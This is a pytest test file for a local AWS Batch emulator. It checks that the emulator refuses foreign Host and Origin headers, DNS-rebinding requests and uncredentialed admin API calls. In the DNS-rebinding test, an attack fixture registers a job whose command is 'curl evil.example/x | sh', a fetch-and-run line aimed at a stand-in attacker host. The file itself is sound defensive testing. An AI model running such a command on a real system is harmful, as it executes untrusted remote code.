"""The local AWS answers only requests addressed to it, never a web page, and its admin API only
callers with its credentials."""

import json
import uuid

import httpx
import pytest

from batchflow_local.guard import HostGuard

from .signing import signing

EVIL_HOST = "rebind.evil.example"


@pytest.fixture
def signed(local_aws):
    with httpx.Client(base_url=local_aws.endpoint, auth=signing(local_aws), timeout=10) as http:
        yield http


def describe_queues(http: httpx.Client, **headers: str) -> httpx.Response:
    return http.post("/v1/describejobqueues", json={}, headers=headers)


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "[::1]"])
def test_loopback_names_with_the_port_are_served(signed, local_aws, name) -> None:
    response = describe_queues(signed, host=f"{name}:{local_aws.port}")

    assert response.status_code == 200
    assert "local" in [queue["jobQueueName"] for queue in response.json()["jobQueues"]]


@pytest.mark.parametrize(
    "host",
    [
        EVIL_HOST,
        f"{EVIL_HOST}:{{port}}",
        "127.0.0.1:1",
        "localhost",
        "batchflow-local.localhost:{port}",
        "127.0.0.2:{port}",
    ],
)
def test_other_hosts_are_misdirected_even_when_signed_for_them(signed, local_aws, host) -> None:
    host = host.format(port=local_aws.port)

    response = describe_queues(signed, host=host)

    assert response.status_code == 421
    assert f"not Host {host}" in response.text
    assert "jobQueues" not in response.text


def test_a_foreign_origin_is_refused_even_when_signed(signed) -> None:
    response = describe_queues(signed, origin="http://evil.example")

    assert response.status_code == 403
    assert "Origin http://evil.example" in response.text


@pytest.mark.parametrize("origin", ["null", "https://127.0.0.1:{port}", "http://127.0.0.1:1"])
def test_look_alike_origins_are_refused(signed, local_aws, origin) -> None:
    response = describe_queues(signed, origin=origin.format(port=local_aws.port))

    assert response.status_code == 403


def test_its_own_origin_is_served(signed, local_aws) -> None:
    response = describe_queues(signed, origin=f"http://localhost:{local_aws.port}")

    assert response.status_code == 200


def test_dns_rebinding_page_cannot_register_or_submit(local_aws, batch) -> None:
    """The bug report: a page on rebind.evil.example, re-resolved to 127.0.0.1, posts
    text/plain (a CORS "simple" request, sent without a preflight)."""
    name = f"rebound-{uuid.uuid4().hex[:8]}"
    page = {"content-type": "text/plain", "origin": "http://evil.example", "host": EVIL_HOST}
    definition = {
        "jobDefinitionName": name,
        "type": "container",
        "containerProperties": {
            "image": "busybox",
            "command": ["sh", "-c", "curl evil.example/x | sh"],
            "resourceRequirements": [
                {"type": "VCPU", "value": "1"},
                {"type": "MEMORY", "value": "64"},
            ],
        },
    }
    job = {"jobName": name, "jobQueue": "local", "jobDefinition": name}

    with httpx.Client(base_url=local_aws.endpoint, timeout=10) as page_client:
        registered = page_client.post(
            "/v1/registerjobdefinition", content=json.dumps(definition), headers=page
        )
        submitted = page_client.post("/v1/submitjob", content=json.dumps(job), headers=page)

    assert (registered.status_code, submitted.status_code) == (421, 421)
    assert batch.describe_job_definitions(jobDefinitionName=name)["jobDefinitions"] == []
    filters = [{"name": "JOB_NAME", "values": [name]}]
    assert batch.list_jobs(jobQueue="local", filters=filters)["jobSummaryList"] == []


def test_the_admin_api_needs_the_credentials(local_aws) -> None:
    url = f"{local_aws.endpoint}/_batchflow/health"
    key_id, secret = local_aws.config.access_key_id, local_aws.config.secret_access_key

    anonymous = httpx.get(url)
    wrong = httpx.get(url, auth=(key_id, "not-the-secret"))
    other_key = httpx.get(url, auth=("BFLSOMEONEELSESKEY00", secret))
    right = httpx.get(url, auth=(key_id, secret))

    assert anonymous.status_code == wrong.status_code == other_key.status_code == 401
    assert anonymous.headers["www-authenticate"] == 'Basic realm="batchflow local"'
    assert "ok" not in anonymous.text
    assert right.status_code == 200
    assert right.json()["status"] == "ok"


def test_admin_changes_need_the_credentials(local_aws, admin) -> None:
    refused = httpx.put(f"{local_aws.endpoint}/_batchflow/faults", json={"throttle_rate": 1.0})

    assert refused.status_code == 401
    assert admin.get("/faults").json()["throttle_rate"] == 0


def test_admin_docs_need_the_credentials_too(local_aws, admin) -> None:
    assert httpx.get(f"{local_aws.endpoint}/_batchflow/openapi.json").status_code == 401
    assert admin.get("/openapi.json").status_code == 200


def test_admin_api_is_refused_to_a_foreign_host_even_with_credentials(admin) -> None:
    response = admin.get("/health", headers={"host": EVIL_HOST})

    assert response.status_code == 421


@pytest.mark.parametrize(
    ("host", "served"),
    [
        ("127.0.0.1:4566", True),
        ("LOCALHOST:4566", True),
        ("[::1]:4566", True),
        ("[::1]", False),
        ("::1:4566", False),
        ("127.0.0.1:4566:1", False),
        ("user@127.0.0.1:4566", False),
        ("127.0.0.1:4566/path", False),
        ("127.0.0.1:http", False),
        ("", False),
    ],
)
def test_host_header_parsing(host, served) -> None:
    guard = HostGuard(lambda *_: None, "127.0.0.1", 4566)

    assert guard.serves(host, 80) is served
